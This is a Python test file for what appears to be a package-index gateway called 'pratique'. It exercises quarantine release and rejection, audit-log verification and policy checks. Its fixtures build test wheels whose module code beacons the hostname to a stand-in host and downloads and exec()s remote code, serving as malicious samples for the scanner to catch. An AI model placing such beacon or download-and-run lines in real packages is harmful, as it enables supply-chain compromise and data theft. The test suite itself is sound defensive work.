"""The real server, real pip, and a person who decides on the command line while it runs."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.support.distributions import Built, make_wheel
from tests.support.server import Server, environment, serving
from tests.support.upstream_server import LocalIndex

_BEACON = (
    'import socket, urllib.request\nurllib.request.urlopen("http://c.example.invalid/?h=" + socket.gethostname())\n'
)
_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_HELD = make_wheel("held-demo", "1.0", {"held_demo/__init__.py": _BEACON})
_EVIL = make_wheel("evil-demo", "1.0", {"evil_demo/__init__.py": _STAGE})
_HONEST = make_wheel("honest-demo", "1.0", {"honest_demo/__init__.py": "x = 1\n"})


@dataclass(frozen=True, slots=True, kw_only=True)
class Shop:
    """A gateway, a folder for what a client does, and the command line beside it."""

    server: Server
    folder: Path

    def pratique(self, *arguments: str, head: Path | None = None) -> tuple[int, str]:
        """Run a command on the server's data; its exit status and all it printed."""
        env = {**environment(), **({"PRATIQUE_AUDIT_HEAD": str(head)} if head else {}), "LOGNAME": "eve", "USER": "eve"}
        done = subprocess.run(
            [sys.executable, "-m", "pratique", *arguments, "--data", str(self.server.data)],
            env=env,
            cwd=self.folder,
            capture_output=True,
            text=True,
            timeout=180,
            check=False,
        )
        return done.returncode, done.stdout + done.stderr

    def install(self, requirement: str) -> tuple[int, str]:
        """Run pip, which can reach nothing but the gateway."""
        target = ["--no-cache-dir", "--index-url", self.server.index, "--target", str(self.folder / "site")]
        done = subprocess.run(
            [sys.executable, "-m", "pip", "install", *target, requirement],
            env=environment(),
            cwd=self.folder,
            capture_output=True,
            text=True,
            timeout=180,
            check=False,
        )
        return done.returncode, " ".join((done.stdout + done.stderr).split())

    def status(self, built: Built) -> int:
        """What a request for a file is answered with."""
        return self.server.get(f"/files/{built.project}/{built.filename}").status


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    """One honest release, one that is held, and one that is proven to be malicious."""
    behind = LocalIndex()
    for built in (_HELD, _EVIL, _HONEST):
        behind.add(built)
    with behind.serving_in_thread() as url, serving(tmp_path / "data", url) as server:
        yield Shop(server=server, folder=tmp_path)


def test_a_held_file_is_released_and_installed_by_the_next_request(shop: Shop) -> None:
    """Refused with the reason, listed, looked at, released by the system's user, served to pip, all on record."""
    status, printed = shop.install("held-demo")
    assert (status != 0, "quarantined: beacon" in printed) == (True, True), printed
    status, printed = shop.pratique("quarantine", "list")
    assert status == 0
    assert f"{_HELD.filename}  quarantined" in printed
    assert _HELD.sha256 in printed
    assert "honest" not in printed
    status, printed = shop.pratique("quarantine", "show", _HELD.filename)
    assert (status, "decided by  actions.suspicious" in printed, "beacon" in printed) == (0, True, True), printed
    status, printed = shop.pratique("quarantine", "release", _HELD.filename, "--reason", "read it", "--expires", "1d")
    assert status == 0, printed
    assert f"by {pwd.getpwuid(os.getuid()).pw_name}: the next request is served" in printed
    assert shop.status(_HELD) == 200
    status, printed = shop.install("held-demo")
    assert status == 0, printed
    assert (shop.folder / "site" / "held_demo-1.0.dist-info").is_dir()
    assert "Nothing is held." in shop.pratique("quarantine", "list")[1]
    status, printed = shop.pratique("audit-log", "show")
    assert "release by" in printed
    assert shop.pratique("audit-log", "verify")[0] == 0
    status, printed = shop.pratique("quarantine", "reject", _HELD.sha256[:12], "--reason", "on second thoughts")
    assert status == 0, printed
    assert shop.status(_HELD) == 403
    status, printed = shop.install("held-demo")
    assert "on second thoughts" in printed


def test_what_is_proven_passes_only_by_its_whole_digest(shop: Shop) -> None:
    """Nobody lets it pass by a name, and a policy's allowance does not."""
    assert shop.status(_EVIL) == 403
    for target in (_EVIL.filename, _EVIL.sha256[:16]):
        status, printed = shop.pratique("quarantine", "release", target, "--reason", "for the lab")
        assert (status, "name its whole SHA-256" in printed) == (2, True), printed
    assert shop.status(_EVIL) == 403
    status, printed = shop.pratique("quarantine", "release", _EVIL.sha256, "--reason", "for the lab")
    assert status == 0, printed
    assert shop.status(_EVIL) == 200


def test_decisions_that_say_too_little_are_not_taken(shop: Shop) -> None:
    """Each is told with the next step, and nothing is on record."""
    assert shop.status(_HELD) == 403
    for arguments, said in (
        (("release", _HONEST.filename, "--reason", "r"), "Nobody has asked here for"),
        (("release", _HELD.filename, "--reason", " "), "needs a reason"),
        (("release", _HELD.filename), "--reason"),
        (("release", _HELD.filename, "--reason", "r", "--expires", "2020-01-01"), "has passed"),
        (("release", _HELD.filename, "--reason", "r", "--expires", "soon"), "is no time"),
    ):
        status, printed = shop.pratique("quarantine", *arguments)
        assert (status, said in printed) == (2, True), printed
    assert shop.status(_HELD) == 403
    assert shop.pratique("audit-log", "show") == (0, "")


def test_a_head_elsewhere_finds_out_who_rewrote_the_log(shop: Shop) -> None:
    """The digests lie where the environment says, too; a database that was put back is told by it."""
    head = shop.folder / "elsewhere"
    assert shop.status(_HELD) == 403
    assert shop.pratique("quarantine", "reject", _HELD.filename, "--reason", "no", head=head)[0] == 0
    assert head.read_text(encoding="ascii").startswith("1 ")
    status, printed = shop.pratique("audit-log", "verify", "--head", str(head))
    assert (status, "1 entries, each as it was written" in printed) == (0, True), printed
    head.write_text(f"1 {'0' * 64}\n", encoding="ascii")
    status, printed = shop.pratique("audit-log", "verify", "--head", str(head))
    assert (status, "entry 1 is another one" in printed) == (1, True), printed
    head.unlink()
    status, printed = shop.pratique("audit-log", "verify", head=head)
    assert (status, f"{head} is not there" in printed) == (1, True), printed
    shutil.copy(shop.server.data / "audit-head", head)
    assert shop.pratique("audit-log", "verify", head=head)[0] == 0


def test_a_policy_is_explained_and_tried_on_what_was_asked_for(shop: Shop) -> None:
    """Which line decided, with all that was said; and what another policy would have changed."""
    assert (shop.status(_HELD), shop.status(_HONEST)) == (403, 200)
    status, printed = shop.pratique("policy", "explain", "held-demo==1.0")
    assert (status, "decided by  actions.suspicious" in printed) == (1, True), printed
    other = shop.folder / "other.toml"
    other.write_text(
        '[[allow]]\nproject = "held-*"\nreason = "known"\n[[deny]]\nproject = "honest-demo"\nreason = "no"\n',
        encoding="utf-8",
    )
    status, printed = shop.pratique("policy", "explain", "held-demo==1.0", "--policy", str(other), "--format", "json")
    (told,) = json.loads(printed)
    assert (status, told["action"], told["verdict"]) == (0, "allow", "suspicious")
    assert {"rule": "actions.suspicious", "lifted": "allow[1]: known"}.items() <= _of(
        told, "actions.suspicious"
    ).items()
    status, printed = shop.pratique("policy", "test", str(other), "--days", "1")
    assert status == 1
    assert f"would be blocked  {_HONEST.filename}  1 request by 1 client" in printed
    assert "deny[1]: blocked: honest-demo 1.0 is not wanted here: no" in printed
    assert f"would be served  {_HELD.filename}" in printed
    empty = shop.folder / "empty.toml"
    empty.write_text("", encoding="utf-8")
    status, printed = shop.pratique("policy", "test", str(empty))
    assert (status, "2 requests of 30 days: 0 that were served would be refused" in printed) == (0, True), printed


def _of(told: dict[str, Any], rule: str) -> dict[str, Any]:
    return next(one for one in told["said"] if one["rule"] == rule)


def test_check_tells_everything_with_its_place(shop: Shop) -> None:
    """As editors and CI jobs read it: file, line, column."""
    wrong = shop.folder / "wrong.toml"
    wrong.write_text('mode = "obsreve"\nunlisted = 3\n', encoding="utf-8")
    command = [sys.executable, "-m", "pratique", "policy", "check"]
    done = subprocess.run([*command, str(wrong)], env=environment(), capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        f"{wrong}:1:1: mode is 'obsreve'; did you mean observe?",
        f"{wrong}:2:1: unlisted is a number; it has to be a text in quotes",
    ]
    wrong.write_text('[[allow]]\nproject = "x"\nreason = "r"\nexpires = 2020-01-01\n[indexes.lax]\n', encoding="utf-8")
    done = subprocess.run([*command, str(wrong)], env=environment(), capture_output=True, text=True, check=False)
    assert done.returncode == 0
    assert "indexes: /simple/, /lax/simple/" in done.stdout
    assert "allow[1] does not hold any more: it expired on 2020-01-01." in done.stdout
    done = subprocess.run([*command, "nowhere.toml"], env=environment(), capture_output=True, text=True, check=False)
    assert (done.returncode, "cannot be read" in done.stderr) == (2, True)
